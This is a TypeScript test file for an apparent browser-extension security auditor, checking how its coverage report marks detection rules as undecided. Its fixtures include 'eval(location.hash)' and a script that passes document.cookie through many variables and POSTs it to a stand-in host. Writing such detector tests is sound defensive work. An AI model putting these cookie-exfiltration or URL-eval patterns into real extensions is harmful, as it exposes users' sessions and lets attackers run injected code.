import assert from 'node:assert/strict';
import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { audit, type AuditOptions } from './audit.ts';
import { gatherIntelligence } from './intelligence/intelligence.ts';
import type { SecurityReport } from './report/security-report.ts';
import type { ExtensionContext } from './rules/context.ts';
import { rules } from './rules/index.ts';

const context: ExtensionContext = {
  claims: { origin: 'store_signed', others: [] },
  publisher: {
    riskLevel: 'medium',
    isVerified: true,
    totalExtensions: 4,
    hasMaliciousHistory: false,
    otherMaliciousExtensions: 0,
  },
  ownerChange: null,
  cluster: null,
};
const intelligence = gatherIntelligence([
  { kind: 'domain', value: 'tides-malware.net', source: 'Example Labs', confidence: 'high' },
])!;
const informed: AuditOptions = {
  analyzedAt: '2026-03-01T10:20:30.000Z',
  context,
  intelligence,
};

describe('a rule without a finding', () => {
  it('looked and found nothing where all that it asked for was there', async () => {
    const { coverage } = await reportOn(tides);
    assert.deepEqual([coverage.complete, coverage.not_known], [true, []]);
  });

  it('could not know where a script of those that it asked for cannot be read', async () => {
    const report = await reportOn({ ...tides, 'moon.js': 'let = = 1 {' });
    const why = report.coverage.not_known?.map((entry) => entry.why) ?? [];
    assert.equal(why.length, 1);
    assert.match(why[0] ?? '', /^moon\.js: not JavaScript: /);
    const unknown = unknownIn(report);
    for (const id of ['keys-sent', 'dynamic-evaluation', 'contacts-known-malicious-domain'])
      assert.ok(unknown.has(id), id);
    for (const id of ['cookies-with-all-urls', 'data-after-image', 'known-malicious-package'])
      assert.ok(!unknown.has(id), id);
  });

  it('is named with one reason, which counts the others like it', async () => {
    const files = { ...tides, 'moon.js': 'let = = 1 {', 'sun.js': '}}' };
    const { coverage } = await reportOn(files);
    assert.match(coverage.not_known?.[0]?.why ?? '', /; and 1 more like it$/);
  });

  it('is none of those that found something in what could be read', async () => {
    const tide = 'chrome.tides; eval(location.hash);';
    const report = await reportOn({ ...tides, 'worker.js': tide, 'moon.js': 'let = = 1 {' });
    assert.ok(report.findings.some(({ id }) => id === 'dynamic-evaluation'));
    assert.ok(!unknownIn(report).has('dynamic-evaluation'));
  });

  it('knows of code where only a picture was lost', async (t) => {
    const path = await mkdtemp(join(tmpdir(), 'extaudit-'));
    t.after(() => rm(path, { recursive: true }));
    for (const [file, text] of Object.entries(tides)) await writeFile(join(path, file), text);
    await symlink('/nowhere/moon.png', join(path, 'moon.png'));
    const { report } = await audit({ kind: 'directory', path }, informed);
    assert.equal(report.coverage.complete, true);
    const unknown = unknownIn(report);
    assert.ok(unknown.has('data-after-image'));
    assert.ok(!unknown.has('keys-sent') && !unknown.has('dynamic-evaluation'));
  });

  it('knows of a manifest alone what the manifest says, and nothing else', async () => {
    const bytes = new TextEncoder().encode(tides['manifest.json']);
    const { report } = await audit({ kind: 'manifest', bytes }, informed);
    assert.deepEqual(
      report.coverage.not_known?.map(({ why }) => why),
      ['package: the code was not seen: only the manifest is known'],
    );
    const unknown = unknownIn(report);
    for (const id of ['keys-sent', 'unsigned-package', 'missing-script', 'known-malicious-package'])
      assert.ok(unknown.has(id), id);
    for (const { id, category } of rules)
      if (category === 'permissions' && id !== 'unused-permissions')
        assert.ok(!unknown.has(id), id);
  });

  it('could not know without the intelligence or the context that it asks for', async () => {
    const { analyzedAt } = informed;
    const alone = await reportOn(tides, { analyzedAt });
    assert.deepEqual(
      alone.coverage.not_known?.map(({ why, rules: ids }) => [why, ids.length]),
      [
        ['intelligence: no list of known threats was used', 7],
        ['publisher, owners and related extensions: only the package was judged', 4],
      ],
    );
    const { publisher: _, ...others } = context;
    const unpublished = await reportOn(tides, { ...informed, context: others });
    assert.deepEqual(unpublished.coverage.not_known, [
      { why: 'publisher: not known', limited: false, rules: ['publisher-of-malware'] },
    ]);
  });

  it('is told apart where all was read and single values were not followed to their end', async () => {
    const hops = Array.from({ length: 130 }, (_, at) => `const tide${at + 1} = tide${at};`);
    const long = `const tide0 = document.cookie;\n${hops.join('\n')}\nfetch('https://tides.test', { method: 'POST', body: tide130 });`;
    const { coverage } = await reportOn({ ...tides, 'worker.js': long });
    assert.equal(coverage.complete, true);
    assert.deepEqual(
      coverage.not_known?.map(({ limited }) => limited),
      [true],
    );
    assert.ok(coverage.not_known?.[0]?.rules.includes('page-cookies-sent'));
  });

  it('could not know where no rule was run', async () => {
    const report = await reportOn(tides, { ...informed, withoutRules: 'the time was up' });
    assert.deepEqual(report.coverage.not_known, [
      { why: 'the time was up', limited: false, rules: rules.map(({ id }) => id).sort() },
    ]);
  });
});

const tides = {
  'manifest.json': JSON.stringify({
    manifest_version: 3,
    name: 'Tides',
    version: '4.2',
    background: { service_worker: 'worker.js' },
  }),
  'worker.js': 'chrome.runtime.onInstalled.addListener(() => console.log("high tide"));',
};

/** Of a ZIP archive of the files. */
async function reportOn(
  files: Readonly<Record<string, string>>,
  options = informed,
): Promise<SecurityReport> {
  const writer = new ZipWriter(new Uint8ArrayWriter());
  for (const [path, text] of Object.entries(files)) await writer.add(path, new TextReader(text));
  const bytes = await writer.close();
  const { report } = await audit({ kind: 'bytes', bytes, name: 'tides.zip' }, options);
  return report;
}

function unknownIn({ coverage }: SecurityReport): ReadonlySet<string> {
  return new Set(coverage.not_known?.flatMap((entry) => entry.rules));
}
